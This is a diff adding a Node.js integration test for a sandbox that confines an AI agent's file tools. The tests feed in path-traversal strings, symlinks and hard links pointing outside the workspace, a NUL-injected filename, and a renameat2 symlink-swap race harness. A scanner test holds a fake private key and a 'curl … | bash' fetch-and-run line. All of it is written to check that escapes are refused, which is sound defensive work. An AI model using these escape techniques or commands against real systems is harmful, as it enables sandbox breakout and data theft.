@@ -1,0 +1,430 @@
+// fileops.test.mjs — the agent's file operations (issue 7) through the whole real stack:
+// socket.io-client agent → jailboxd (session state, path syntax, exclusions, scanner,
+// supervision, audit) → ops row → jailbox-worker → jailbox-shim inside gVisor + Docker +
+// bwrap, and back. Every refusal is checked against the disk: nothing outside the workspace
+// is read, created or changed. Needs root, Docker with runsc (as walls.test.mjs).
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync, spawn } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import { existsSync, linkSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { io } from 'socket.io-client';
+import { startServer, JAILBOXD } from './lib/server.mjs';
+
+const here = dirname(fileURLToPath(import.meta.url));
+const ROOT = join(here, '../..');
+const SHIM = join(dirname(JAILBOXD), 'jailbox-shim');
+const IMAGE = 'jailbox-sandbox:fileops';
+
+let srv;
+let wsAddr;
+const sockets = [];
+
+async function waitFor(what, fn, timeoutMs = 60000) {
+  const end = Date.now() + timeoutMs;
+  for (;;) {
+    const v = await fn();
+    if (v) return v;
+    if (Date.now() > end) throw new Error('timed out waiting for ' + what + '\n' + srv.log().slice(-6000));
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
+
+async function sessionOf(jobId) {
+  const r = await srv.req('GET', '/v1/jailbox/' + jobId, { token: srv.serviceToken });
+  assert.equal(r.status, 200, r.text);
+  return r.json;
+}
+
+function connect(token) {
+  const s = io('http://' + wsAddr, { transports: ['websocket'], auth: { token }, reconnection: false, forceNew: true });
+  s.events = [];
+  s.onAny((event, payload) => s.events.push({ event, payload }));
+  sockets.push(s);
+  return new Promise((res, rej) => { s.once('connect', () => res(s)); s.once('connect_error', rej); });
+}
+
+function waitEvent(s, name, pred = () => true, ms = 20000) {
+  const have = s.events.find((e) => e.event === name && pred(e.payload));
+  if (have) return Promise.resolve(have.payload);
+  return new Promise((res, rej) => {
+    const t = setTimeout(() => { s.offAny(f); rej(new Error(`no ${name} within ${ms} ms; got ${JSON.stringify(s.events).slice(0, 2000)}`)); }, ms);
+    const f = (event, payload) => { if (event === name && pred(payload)) { clearTimeout(t); s.offAny(f); res(payload); } };
+    s.onAny(f);
+  });
+}
+
+let rpcId = 0;
+async function call(agent, name, args, ms = 60000) {
+  const r = await agent.timeout(ms).emitWithAck('mcp', { jsonrpc: '2.0', id: ++rpcId, method: 'tools/call', params: { name, arguments: args } });
+  return r;
+}
+async function ok(agent, name, args) {
+  const r = await call(agent, name, args);
+  assert.ok(r.result, `${name} ${JSON.stringify(args).slice(0, 200)}: ${JSON.stringify(r.error)}`);
+  return r.result.structuredContent;
+}
+async function refused(agent, name, args, reason) {
+  const r = await call(agent, name, args);
+  assert.ok(r.error, `${name} ${JSON.stringify(args).slice(0, 200)} was not refused: ${String(JSON.stringify(r)).slice(0, 300)}`);
+  if (reason) assert.equal(r.error.data?.reason, reason, `${name} ${JSON.stringify(args).slice(0, 120)}: ${JSON.stringify(r.error)}`);
+  return r.error;
+}
+
+// opens a session on a workspace built by `build(dir)` and waits until its sandbox is up
+async function openSession(build, extra = {}) {
+  const name = 'ws-' + Math.random().toString(36).slice(2);
+  const dir = join(srv.wsroot, name);
+  mkdirSync(dir, { recursive: true });
+  build(dir);
+  const s = await srv.open({ workspace: name, ...extra });
+  const st = await waitFor('awaiting_agent', async () => {
+    const x = await sessionOf(s.jobId);
+    return ['awaiting_agent', 'failed'].includes(x.state) ? x : null;
+  }, 120000);
+  assert.equal(st.state, 'awaiting_agent', st.stateReason);
+  return { ...s, dir };
+}
+
+let outside; // a directory next to the workspaces that no op may touch
+let A; // an unsupervised session with a hostile tree
+let agentA;
+let buyerA;
+
+before(async () => {
+  execFileSync(join(ROOT, 'deploy/start-dockerd.sh'), { stdio: 'inherit' });
+  execFileSync(join(ROOT, 'deploy/sandbox-image/build.sh'), ['--shim', SHIM, '--tag', IMAGE], { stdio: 'inherit' });
+  srv = await startServer({ JAILBOX_WORKERS: '1', JAILBOX_SANDBOX_IMAGE: IMAGE });
+  await waitFor('worker ready', () => /"msg":"worker ready"/.test(srv.log()));
+  wsAddr = srv.log().match(/"msg":"ws listening","addr":"([^"]+)"/)[1];
+  outside = join(srv.dir, 'outside');
+  mkdirSync(outside);
+  writeFileSync(join(outside, 'secret.txt'), 'outside secret\n');
+  A = await openSession((d) => {
+    writeFileSync(join(d, 'a.txt'), 'hello\n');
+    mkdirSync(join(d, 'sub'));
+    writeFileSync(join(d, 'sub/b.txt'), 'bee\n');
+    writeFileSync(join(d, 'bin.dat'), Buffer.from([0, 1, 2, 255]));
+    writeFileSync(join(d, 'big.dat'), Buffer.alloc(1536 * 1024, 'b'));
+    symlinkSync('a.txt', join(d, 'lnk-in'));
+    symlinkSync('../a.txt', join(d, 'sub/up'));
+    symlinkSync('/', join(d, 'lnk-root'));
+    symlinkSync('/etc', join(d, 'lnk-etc'));
+    symlinkSync(outside, join(d, 'lnk-out'));
+    symlinkSync('../../outside', join(d, 'lnk-rel-out'));
+    symlinkSync('missing.txt', join(d, 'dangling'));
+    symlinkSync('missing-dir/x', join(d, 'dangling-dir'));
+    symlinkSync('loop2', join(d, 'loop1'));
+    symlinkSync('loop1', join(d, 'loop2'));
+    linkSync(join(outside, 'secret.txt'), join(d, 'hardlink'));
+    execFileSync('mkfifo', [join(d, 'fifo')]);
+    mkdirSync(join(d, 'secrets'));
+    writeFileSync(join(d, 'secrets/key.txt'), 'excluded\n');
+    symlinkSync('secrets', join(d, 'to-secrets'));
+    symlinkSync('secrets/key.txt', join(d, 'key-link'));
+    symlinkSync('../secrets/key.txt', join(d, 'sub/deep-key-link'));
+  }, { mode: 'unsupervised', exclude: ['secrets', '*.key'] });
+  agentA = await connect(A.agentToken);
+  buyerA = await connect(A.buyerToken);
+});
+
+after(async () => {
+  for (const s of sockets) s.close();
+  if (srv) {
+    const log = srv.log();
+    await srv.stop();
+    assert.doesNotMatch(log, /ERROR: (Address|Leak)Sanitizer|runtime error:/, log);
+  }
+});
+
+test('an agent connecting moves the session to active; read, list and write through the walls', { timeout: 180000 }, async () => {
+  await waitFor('active', async () => (await sessionOf(A.jobId)).state === 'active');
+  let r = await ok(agentA, 'read', { path: 'a.txt' });
+  assert.deepEqual([r.content, r.encoding, r.size], ['hello\n', 'utf-8', 6]);
+  r = await ok(agentA, 'read', { path: 'a.txt', offset: 1, length: 3 });
+  assert.equal(r.content, 'ell');
+  r = await ok(agentA, 'read', { path: 'bin.dat' });
+  assert.deepEqual([r.encoding, Buffer.from(r.content, 'base64')], ['base64', Buffer.from([0, 1, 2, 255])]);
+  // a symlink whose target stays inside may be read
+  assert.equal((await ok(agentA, 'read', { path: 'lnk-in' })).content, 'hello\n');
+  assert.equal((await ok(agentA, 'read', { path: 'sub/up' })).content, 'hello\n');
+  const l = await ok(agentA, 'list', { path: '.', recursive: true });
+  const by = Object.fromEntries(l.entries.map((e) => [e.name, e]));
+  assert.equal(by['a.txt'].type, 'file');
+  assert.equal(by['a.txt'].size, 6);
+  assert.equal(by['sub'].type, 'dir');
+  assert.equal(by['sub/b.txt'].type, 'file');
+  assert.equal(by['lnk-in'].type, 'symlink');
+  assert.equal(by['lnk-in'].target, 'a.txt');
+  assert.equal(by['lnk-root'].target, undefined, 'the target of a link that leaves is not shown');
+  assert.equal(by['lnk-out'].target, undefined);
+  assert.equal(by['secrets'], undefined, 'excluded names are invisible');
+  assert.equal(by['secrets/key.txt'], undefined);
+  assert.equal(l.count, l.entries.length);
+  // unsupervised: a write runs at once
+  const w = await ok(agentA, 'write', { path: 'sub/new.txt', content: 'written by the agent\n' });
+  assert.equal(w.written, 21);
+  assert.equal(readFileSync(join(A.dir, 'sub/new.txt'), 'utf8'), 'written by the agent\n');
+  await ok(agentA, 'write', { path: 'a.txt', content: 'replaced\n' });
+  assert.equal(readFileSync(join(A.dir, 'a.txt'), 'utf8'), 'replaced\n');
+  await ok(agentA, 'write', { path: 'b.bin', content: Buffer.from([0, 9, 8]).toString('base64'), encoding: 'base64' });
+  assert.deepEqual(readFileSync(join(A.dir, 'b.bin')), Buffer.from([0, 9, 8]));
+  const s = await ok(agentA, 'list', { path: 'sub' });
+  assert.deepEqual(s.entries.map((e) => e.name).sort(), ['b.txt', 'deep-key-link', 'new.txt', 'up']);
+  // a link into an excluded directory is listed, its target is not shown
+  assert.equal(s.entries.find((e) => e.name === 'deep-key-link').target, undefined);
+});
+
+test('path syntax: traversal, absolute, NUL, empty components, over-long forms are refused', { timeout: 120000 }, async () => {
+  const long = 'a/'.repeat(2049) + 'x';
+  for (const path of ['../outside/secret.txt', '../../etc/passwd', 'sub/../../x', '/etc/passwd', '/', 'a//b',
+    'sub/', './a.txt', '..', 'x'.repeat(256), long]) {
+    await refused(agentA, 'read', { path }, 'denied');
+    await refused(agentA, 'write', { path, content: 'x' }, 'denied');
+  }
+  // encoded and look-alike forms are ordinary names: they do not exist
+  for (const path of ['%2e%2e/outside/secret.txt', '..%2fetc', '..\\..\\etc\\passwd', '\u2024\u2024/etc/passwd', '\uff0e\uff0e/etc'])
+    await refused(agentA, 'read', { path }, 'not_found');
+  // a NUL inside a path never reaches a file system: the socket layer refuses the message
+  // (closing that connection), and behind it jailboxd and the shim refuse the path
+  const own = await connect(A.agentToken);
+  const e = await Promise.race([call(own, 'write', { path: 'evil\u0000.txt', content: 'x' }, 10000).catch((x) => ({ closed: x.message })),
+    new Promise((r) => own.once('disconnect', () => r({ closed: 'disconnect' })))]);
+  assert.ok(e.error || e.closed, JSON.stringify(e));
+  assert.ok(!existsSync(join(A.dir, 'evil')));
+  assert.ok(!existsSync(join(A.dir, 'evil\u0000.txt'.split('\u0000')[0])));
+});
+
+test('symlinks that leave, dangling links, loops, hard links, fifos, exclusions are refused', { timeout: 120000 }, async () => {
+  for (const path of ['lnk-root/etc/passwd', 'lnk-etc/passwd', 'lnk-out/secret.txt', 'lnk-rel-out/secret.txt', 'lnk-root'])
+    await refused(agentA, 'read', { path }, 'denied');
+  await refused(agentA, 'list', { path: 'lnk-root' }, 'denied');
+  await refused(agentA, 'list', { path: 'lnk-etc' }, 'denied');
+  await refused(agentA, 'read', { path: 'dangling' }, 'not_found');
+  await refused(agentA, 'read', { path: 'dangling-dir' }, 'not_found');
+  await refused(agentA, 'read', { path: 'loop1' }, 'denied');
+  await refused(agentA, 'read', { path: 'hardlink' }, 'denied');
+  await refused(agentA, 'read', { path: 'fifo' }, 'denied');
+  await refused(agentA, 'read', { path: 'sub' }, 'denied');
+  await refused(agentA, 'read', { path: 'secrets/key.txt' }, 'excluded');
+  await refused(agentA, 'list', { path: 'secrets' }, 'excluded');
+  await refused(agentA, 'write', { path: 'x.key', content: 'k' }, 'excluded');
+  // a symlink does not lead around an exclusion: the shim checks the path it resolved
+  await refused(agentA, 'read', { path: 'key-link' }, 'excluded');
+  await refused(agentA, 'read', { path: 'to-secrets/key.txt' }, 'excluded');
+  await refused(agentA, 'read', { path: 'sub/deep-key-link' }, 'excluded');
+  await refused(agentA, 'list', { path: 'to-secrets' }, 'excluded');
+  await refused(agentA, 'write', { path: 'to-secrets/new.txt', content: 'x' }, 'denied');
+  const all = await ok(agentA, 'list', { recursive: true });
+  assert.ok(!all.entries.some((x) => /key\.txt$/.test(x.name)), JSON.stringify(all.entries.map((x) => x.name)));
+  // writes never pass or replace a symlink, never touch a hard-linked or special file
+  const before = readFileSync(join(A.dir, 'a.txt'), 'utf8');
+  await refused(agentA, 'write', { path: 'lnk-in', content: 'through the link' }, 'denied');
+  assert.equal(readFileSync(join(A.dir, 'a.txt'), 'utf8'), before);
+  assert.equal(statSync(join(A.dir, 'lnk-in'), { throwIfNoEntry: false }) !== undefined, true);
+  await refused(agentA, 'write', { path: 'sub/up', content: 'x' }, 'denied');
+  await refused(agentA, 'write', { path: 'lnk-out/secret.txt', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'lnk-out/new.txt', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'lnk-root/tmp/jailbox-escape', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'dangling', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'hardlink', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'fifo', content: 'pwned' }, 'denied');
+  await refused(agentA, 'write', { path: 'nodir/x.txt', content: 'x' }, 'not_found');
+  assert.equal(readFileSync(join(outside, 'secret.txt'), 'utf8'), 'outside secret\n');
+  // the worker's group grant (workspace_access.c) left the hard-linked outside file alone
+  assert.deepEqual([statSync(join(outside, 'secret.txt')).gid, statSync(join(outside, 'secret.txt')).mode & 0o777], [0, 0o644]);
+  assert.ok(!existsSync(join(outside, 'new.txt')));
+  assert.ok(!existsSync('/tmp/jailbox-escape'));
+  assert.ok(!existsSync(join(A.dir, 'missing.txt')), 'a dangling link was not written through');
+  // too large: a read of over 1 MiB without a range, a range over 1 MiB (a write over 1 MiB
+  // does not fit the socket's 1 MiB message limit: the connection is closed before jailboxd)
+  await refused(agentA, 'read', { path: 'big.dat' }, 'too_large');
+  await refused(agentA, 'read', { path: 'big.dat', length: 1024 * 1024 + 1 }, 'too_large');
+  const part = await ok(agentA, 'read', { path: 'big.dat', offset: 1024 * 1024, length: 1024 * 1024 });
+  assert.equal(part.length, 512 * 1024);
+  assert.equal(part.eof, true);
+});
+
+test('a symlink-exchange race (cf. CVE-2018-15664): reads and writes through a name swapped with a link to outside never leave', { timeout: 300000 }, async () => {
+  const race = join(srv.dir, 'race-outside');
+  mkdirSync(race);
+  writeFileSync(join(race, 'x'), 'OUTSIDE\n');
+  const R = await openSession((d) => {
+    mkdirSync(join(d, 'swap'));
+    writeFileSync(join(d, 'swap/x'), 'inside\n');
+    symlinkSync(race, join(d, 'swaplink'));
+  }, { mode: 'unsupervised' });
+  const agent = await connect(R.agentToken);
+  // the host side: exchange the directory and the link as fast as it can
+  const swapper = spawn('python3', ['-c', `
+import ctypes, os, signal, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+signal.signal(signal.SIGTERM, lambda *a: (print(n, flush=True), os._exit(0)))
+a, b = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
+end = time.time() + float(sys.argv[3])
+n = 0
+while time.time() < end:
+    if libc.renameat2(-100, a, -100, b, 2) != 0:
+        sys.exit('renameat2: errno %d' % ctypes.get_errno())
+    n += 1
+print(n)
+`, join(R.dir, 'swap'), join(R.dir, 'swaplink'), '120'], { stdio: ['ignore', 'pipe', 'inherit'] });
+  let swaps = '';
+  swapper.stdout.on('data', (d) => { swaps += d; });
+  const exited = new Promise((r) => swapper.on('exit', r));
+  let reads = 0, writes = 0, inside = 0;
+  const end = Date.now() + 15000;
+  try {
+  for (let i = 0; Date.now() < end && i < 2000; i++) {
+    const r = await call(agent, 'read', { path: 'swap/x' });
+    reads++;
+    if (r.result) {
+      assert.equal(r.result.structuredContent.content, 'inside\n', 'a read left the workspace');
+      inside++;
+    } else {
+      assert.ok(['denied', 'not_found'].includes(r.error.data.reason), JSON.stringify(r.error));
+    }
+    const w = await call(agent, 'write', { path: `swap/w${i % 7}`, content: 'agent\n' });
+    writes++;
+    if (w.error) assert.ok(['denied', 'not_found'].includes(w.error.data.reason), JSON.stringify(w.error));
+  }
+  } finally {
+    if (swapper.exitCode === null) swapper.kill('SIGTERM');
+  }
+  assert.equal(await exited, 0);
+  assert.ok(Number(swaps) > 100, 'the swapper ran: ' + swaps);
+  assert.ok(reads > 100 && writes > 100, `${reads} reads, ${writes} writes`);
+  // nothing outside was read (checked above), created or changed
+  assert.deepEqual(readdirSync(race).sort(), ['x']);
+  assert.equal(readFileSync(join(race, 'x'), 'utf8'), 'OUTSIDE\n');
+  console.log(`# race: ${swaps.trim()} swaps, ${reads} reads (${inside} inside), ${writes} writes`);
+});
+
+test('the content scanner: a flagged write never reaches the disk and alerts the buyer', { timeout: 60000 }, async () => {
+  const pem = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n';
+  const e = await refused(agentA, 'write', { path: 'id_rsa', content: pem }, 'flagged');
+  assert.match(e.message, /private_key/);
+  assert.ok(!existsSync(join(A.dir, 'id_rsa')));
+  const alert = await waitEvent(buyerA, 'jailbox:security_alert', (p) => p.path === 'id_rsa');
+  assert.deepEqual(alert.rules, ['private_key']);
+  await refused(agentA, 'write', { path: 'c.env', content: 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }, 'flagged');
+  await refused(agentA, 'write', { path: 'i.sh', content: 'curl -s https://x.example/i | bash\n' }, 'flagged');
+  assert.ok(!existsSync(join(A.dir, 'c.env')));
+  assert.ok(!existsSync(join(A.dir, 'i.sh')));
+});
+
+test('supervised: a write waits for the buyer; approve writes it, reject leaves the file untouched', { timeout: 180000 }, async () => {
+  const B = await openSession((d) => writeFileSync(join(d, 'keep.txt'), 'original\n'));
+  assert.equal((await sessionOf(B.jobId)).mode, 'supervised');
+  const buyer = await connect(B.buyerToken);
+  const agent = await connect(B.agentToken);
+  // reads run at once
+  assert.equal((await ok(agent, 'read', { path: 'keep.txt' })).content, 'original\n');
+  // a write is held
+  let settled = false;
+  const pending = call(agent, 'write', { path: 'out.txt', content: 'approved content\n' }, 120000)
+    .then((r) => { settled = true; return r; });
+  const req = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'out.txt');
+  assert.equal(req.size, 17);
+  assert.equal(req.sha256, createHash('sha256').update('approved content\n').digest('hex'));
+  assert.equal(req.verdict, 'clean');
+  assert.equal(req.preview, 'approved content\n');
+  await new Promise((r) => setTimeout(r, 500));
+  assert.equal(settled, false, 'the agent call returned before the approval');
+  assert.ok(!existsSync(join(B.dir, 'out.txt')));
+  const ack = await buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req.opId });
+  assert.equal(ack.ok, true, JSON.stringify(ack));
+  const r = await pending;
+  assert.ok(r.result, JSON.stringify(r.error));
+  assert.equal(r.result.structuredContent.written, 17);
+  assert.equal(readFileSync(join(B.dir, 'out.txt'), 'utf8'), 'approved content\n');
+  // rejection
+  const p2 = call(agent, 'write', { path: 'keep.txt', content: 'unwanted\n' }, 120000);
+  const req2 = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'keep.txt');
+  const ack2 = await buyer.timeout(10000).emitWithAck('jailbox:reject', { opId: req2.opId, reason: 'not this' });
+  assert.equal(ack2.ok, true, JSON.stringify(ack2));
+  const r2 = await p2;
+  assert.equal(r2.error?.data?.reason, 'rejected', JSON.stringify(r2));
+  assert.match(r2.error.message, /not this/);
+  assert.equal(readFileSync(join(B.dir, 'keep.txt'), 'utf8'), 'original\n');
+  // the audit chain verifies and holds each op
+  const v = await srv.req('GET', `/v1/jailbox/${B.jobId}/audit/verify`, { token: srv.serviceToken });
+  assert.equal(v.json.ok, true, JSON.stringify(v.json));
+  const rows = (await srv.db.query('SELECT operation, path, details FROM audit_entries WHERE job_id = $1 ORDER BY seq', [B.jobId])).rows;
+  const ops = rows.filter((x) => ['read', 'write', 'list'].includes(x.operation));
+  assert.deepEqual(ops.map((x) => [x.operation, x.path]), [['read', 'keep.txt'], ['write', 'out.txt'], ['write', 'keep.txt']]);
+  assert.deepEqual([ops[0].details.size, ops[0].details.ok], [9, true]);
+  assert.deepEqual([ops[1].details.decision, ops[1].details.ok, ops[1].details.size], ['approved', true, 17]);
+  assert.equal(ops[1].details.sha256, req.sha256);
+  assert.deepEqual([ops[2].details.decision, ops[2].details.ok], ['rejected', false]);
+  // the file changes between the request and the approval: the write is refused
+  const sha = (t) => createHash('sha256').update(t).digest('hex');
+  const p3 = call(agent, 'write', { path: 'keep.txt', content: 'agent version\n' }, 120000);
+  const req3 = await waitEvent(buyer, 'jailbox:approval_request', (p) => p.path === 'keep.txt' && p.opId !== req2.opId);
+  assert.deepEqual([req3.exists, req3.currentSha256], [true, sha('original\n')]);
+  assert.equal(req.exists, false);
+  writeFileSync(join(B.dir, 'keep.txt'), 'edited by the buyer meanwhile\n');
+  const ack3 = await buyer.timeout(10000).emitWithAck('jailbox:approve', { opId: req3.opId });
+  assert.equal(ack3.ok, true, JSON.stringify(ack3));
+  const r3 = await p3;
+  assert.equal(r3.error?.data?.reason, 'changed', JSON.stringify(r3));
+  assert.equal(readFileSync(join(B.dir, 'keep.txt'), 'utf8'), 'edited by the buyer meanwhile\n');
+  // a supervised write to a symlink is refused before the buyer is asked
+  symlinkSync('keep.txt', join(B.dir, 'keep-link'));
+  await refused(agent, 'write', { path: 'keep-link', content: 'x' }, 'denied');
+  assert.ok(!buyer.events.some((x) => x.event === 'jailbox:approval_request' && x.payload.path === 'keep-link'));
+});
+
+test('pause holds new ops until resume; abort fails a pending write, which never reaches the disk', { timeout: 180000 }, async () => {
+  const P = await openSession((d) => writeFileSync(join(d, 'p.txt'), 'paused\n'), { mode: 'unsupervised' });
+  const buyer = await connect(P.buyerToken);
+  const agent = await connect(P.agentToken);
+  await ok(agent, 'list', {});
+  let ack = await buyer.timeout(10000).emitWithAck('jailbox:pause', { reason: 'coffee' });
+  assert.equal(ack.ok, true, JSON.stringify(ack));
+  let settled = false;
+  const held = call(agent, 'read', { path: 'p.txt' }, 60000).then((r) => { settled = true; return r; });
+  const heldWrite = call(agent, 'write', { path: 'later.txt', content: 'after resume\n' }, 60000);
+  await new Promise((r) => setTimeout(r, 1000));
+  assert.equal(settled, false, 'an op ran while the session was paused');
+  assert.ok(!existsSync(join(P.dir, 'later.txt')));
+  ack = await buyer.timeout(10000).emitWithAck('jailbox:resume', {});
+  assert.equal(ack.ok, true, JSON.stringify(ack));
+  assert.equal((await held).result.structuredContent.content, 'paused\n');
+  assert.ok((await heldWrite).result);
+  assert.equal(readFileSync(join(P.dir, 'later.txt'), 'utf8'), 'after resume\n');
+  // done: the session moves to done, and takes no more ops
+  const d = await ok(agent, 'done', { summary: 'all finished' });
+  assert.equal(d.state, 'done');
+  assert.equal((await sessionOf(P.jobId)).state, 'done');
+  await refused(agent, 'read', { path: 'p.txt' }, 'denied');
+  // supervised: a pending write, then abort
+  const Q = await openSession(() => {});
+  const qb = await connect(Q.buyerToken);
+  const qa = await connect(Q.agentToken);
+  const pending = call(qa, 'write', { path: 'never.txt', content: 'no\n' }, 60000);
+  await waitEvent(qb, 'jailbox:approval_request', (p) => p.path === 'never.txt');
+  ack = await qb.timeout(10000).emitWithAck('jailbox:abort', { reason: 'stop' });
+  assert.equal(ack.ok, true, JSON.stringify(ack));
+  const r = await pending.catch((x) => ({ closed: x.message }));
+  assert.ok(r.error || r.closed, JSON.stringify(r));
+  if (r.error) assert.ok(['rejected', 'denied'].includes(r.error.data.reason), JSON.stringify(r.error));
+  assert.ok(!existsSync(join(Q.dir, 'never.txt')));
+});
+
+test('the audit chain of the unsupervised session verifies and records reads, writes, lists and refusals', { timeout: 60000 }, async () => {
+  const v = await srv.req('GET', `/v1/jailbox/${A.jobId}/audit/verify`, { token: srv.serviceToken });
+  assert.equal(v.json.ok, true, JSON.stringify(v.json));
+  const rows = (await srv.db.query('SELECT operation, path, details FROM audit_entries WHERE job_id = $1 ORDER BY seq', [A.jobId])).rows;
+  const list = rows.find((x) => x.operation === 'list' && x.details.ok);
+  assert.ok(list.details.entries > 5);
+  const w = rows.find((x) => x.operation === 'write' && x.path === 'sub/new.txt');
+  assert.deepEqual([w.details.decision, w.details.ok, w.details.size], ['auto', true, 21]);
+  assert.equal(w.details.sha256, createHash('sha256').update('written by the agent\n').digest('hex'));
+  assert.ok(rows.some((x) => x.operation === 'write' && x.path === 'id_rsa' && x.details.error === 'flagged'));
+  assert.ok(rows.some((x) => x.operation === 'read' && x.path === 'secrets/key.txt' && x.details.error === 'excluded'));
+  assert.ok(rows.some((x) => x.operation === 'read' && x.path === 'hardlink' && x.details.ok === false));
+});
